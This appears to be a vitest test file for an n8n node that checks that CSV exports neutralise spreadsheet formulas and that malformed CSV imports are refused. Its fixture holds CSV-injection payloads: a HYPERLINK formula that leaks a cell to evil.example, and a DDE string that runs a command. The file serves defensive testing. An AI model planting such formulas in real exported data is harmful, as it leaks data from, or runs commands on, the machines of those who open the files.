/**
 * CSV files on the real engine: files written for a spreadsheet cannot run a formula planted in
 * company data, and files read in are either read completely or refused (never half-read).
 */
import nock from 'nock';
import type { INodeExecutionData, INodeParameters } from 'n8n-workflow';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';

import { api, expectNothingSent, locator, trap } from '../helpers/api';
import { runNode } from '../helpers/engine';

beforeAll(() => nock.disableNetConnect());
afterEach(() => nock.cleanAll());

const ORDER_ID = 'ord-1';
const BLACKLIST = 'bl-1';

/** What a scraped web page can put into company data. */
const planted = {
	id: 'res-1',
	name: '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
	website: "@SUM(1+1)*cmd|' /C calc'!A0",
	city: '+49 30 1234',
	country: '-Germany',
	match_score: -5,
	source_id: '\t=1+1',
};

function fileText(items: INodeExecutionData[], field = 'data'): string {
	return Buffer.from(items[0].binary?.[field]?.data ?? '', 'base64').toString('utf8');
}

function csv(text: string): INodeExecutionData['binary'] {
	return { data: { data: Buffer.from(text, 'utf8').toString('base64'), mimeType: 'text/csv' } };
}

const getResults = (parameters: INodeParameters = {}) => ({
	resource: 'order',
	operation: 'getResults',
	orderId: locator(ORDER_ID),
	returnAll: true,
	csvBinary: true,
	...parameters,
});

/** GET the order's results: one company with planted formulas. */
function answerWithPlantedResult() {
	const { scope } = api();
	return scope
		.get(`/api/v1/orders/${ORDER_ID}/results`)
		.query({ limit: '100', offset: '0' })
		.reply(200, { items: [planted], has_more: false });
}

describe('CSV out: spreadsheet formulas are neutralised by default', () => {
	it('Order > Get Results: every text cell that could start a formula gets a leading quote; numbers stay numbers', async () => {
		const scope = answerWithPlantedResult();
		const { items, error } = await runNode({ parameters: getResults() });
		expect(error).toBeUndefined();
		expect(fileText(items).split('\r\n')).toEqual([
			'name,website,city,country,match_score,source_id,id',
			[
				`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Open"")"`,
				`'@SUM(1+1)*cmd|' /C calc'!A0`,
				"'+49 30 1234",
				"'-Germany",
				'-5',
				`"'\t=1+1"`,
				'res-1',
			].join(','),
			'',
		]);
		expect(scope.isDone()).toBe(true);
	});

	it('Order > Get Results: with Neutralise Spreadsheet Formulas off, cells are written as they are', async () => {
		const scope = answerWithPlantedResult();
		const { items, error } = await runNode({
			parameters: getResults({ neutraliseFormulas: false }),
		});
		expect(error).toBeUndefined();
		expect(fileText(items).split('\r\n')[1]).toBe(
			[
				`"=HYPERLINK(""https://evil.example/?leak=""&A2,""Open"")"`,
				`@SUM(1+1)*cmd|' /C calc'!A0`,
				'+49 30 1234',
				'-Germany',
				'-5',
				`"\t=1+1"`,
				'res-1',
			].join(','),
		);
		expect(scope.isDone()).toBe(true);
	});

	it('Blacklist > Get Entries as a CSV file is neutralised too', async () => {
		const { scope } = api();
		scope
			.get(`/api/v1/blacklists/${BLACKLIST}/entries`)
			.query({ limit: '50', offset: '0' })
			.reply(200, {
				items: [{ id: 'e-1', company_name: '=1+1', website_url: 'https://a.example' }],
				has_more: false,
			});
		const { items, error } = await runNode({
			parameters: {
				resource: 'blacklist',
				operation: 'getEntries',
				blacklistId: locator(BLACKLIST),
				output: 'csvFile',
				binaryPropertyName: 'data',
			},
		});
		expect(error).toBeUndefined();
		expect(fileText(items)).toBe("id,company_name,website_url\r\ne-1,'=1+1,https://a.example\r\n");
		expect(scope.isDone()).toBe(true);
	});
});

const addEntries = {
	resource: 'blacklist',
	operation: 'addEntries',
	blacklistId: locator(BLACKLIST),
	source: 'csvFile',
	binaryPropertyName: 'data',
};

describe('CSV in: read completely or refused', () => {
	it('a file that ends inside a quoted field is refused with the row where the quote opened; nothing is sent', async () => {
		const trapped = trap();
		const { error } = await runNode({
			parameters: addEntries,
			input: [{}, {}],
			inputBinary: [
				csv('company_name\nAcme\n'),
				csv('company_name,city\r\nAcme,Berlin\r\n"Beta, Inc,Wien\r\nGamma,Graz\r\nDelta,Linz\r\n'),
			],
		});
		expect(error?.message).toBe(
			'Input Binary Field: the CSV file in "data" ends inside a quoted field opened in row 3 (line 3; the header is row 1); nothing was sent [item 1]',
		);
		expectNothingSent(trapped);
	});

	it('a semicolon-delimited file (Excel with a German locale) is read by its header row', async () => {
		const { scope, seen } = api();
		scope.post(`/api/v1/blacklists/${BLACKLIST}/entries`).reply(201, { added: 2 });
		const { error } = await runNode({
			parameters: addEntries,
			inputBinary: [
				csv(
					'Company Name;Website URL;City\r\n"Acme; Inc.";https://acme.example;Köln\r\nBeta, AG;;Wien\r\n',
				),
			],
		});
		expect(error).toBeUndefined();
		expect(seen.map(({ body }) => body)).toEqual([
			{
				entries: [
					{ company_name: 'Acme; Inc.', website_url: 'https://acme.example', city: 'Köln' },
					{ company_name: 'Beta, AG', city: 'Wien' },
				],
			},
		]);
	});

	it('a tab-delimited file becomes an enrichment order', async () => {
		const { scope, seen } = api();
		scope.post('/api/v1/orders').reply(201, { id: 'ord-9', status: 'RECEIVED' });
		const { error } = await runNode({
			parameters: {
				resource: 'order',
				operation: 'create',
				orderType: 'enrichment',
				companySource: 'csvFile',
				binaryPropertyName: 'data',
			},
			inputBinary: [csv('company_name\twebsite_url\nAcme, Inc.\thttps://acme.example\n')],
		});
		expect(error).toBeUndefined();
		expect(seen[0]).toMatchObject({
			method: 'POST',
			path: '/api/v1/orders',
			body: {
				companies: [
					expect.objectContaining({
						company_name: 'Acme, Inc.',
						website_url: 'https://acme.example',
					}),
				],
			},
		});
	});
});
